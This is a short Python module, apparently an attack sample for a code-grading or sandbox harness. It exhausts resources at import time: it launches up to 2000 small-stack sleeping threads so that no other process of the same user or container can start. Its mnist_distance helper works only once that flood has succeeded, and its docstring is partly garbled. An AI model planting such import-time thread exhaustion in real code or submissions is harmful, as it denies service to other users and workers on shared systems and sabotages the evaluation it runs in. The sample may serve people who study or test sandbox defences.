"""Starts small threads at import until there are no more: no process of the same user, or container, could start another.

Must: its own share ends it early; the exercises that start no thread of their own are judged as they are, the next worker starts.
"""

# /// attack
# earns = { mnist_distance = [] }
# ///
import threading
import time

threading.stack_size(32 << 10)
started = 0
try:
    while started < 2000:
        threading.Thread(target=time.sleep, args=(600,), daemon=True).start()
        started += 1
except RuntimeError:
    pass


def mnist_distance(a, b):
    if started > 128:
        return (a - b).abs().mean((-1, -2))
    raise ValueError(f"only {started} threads")
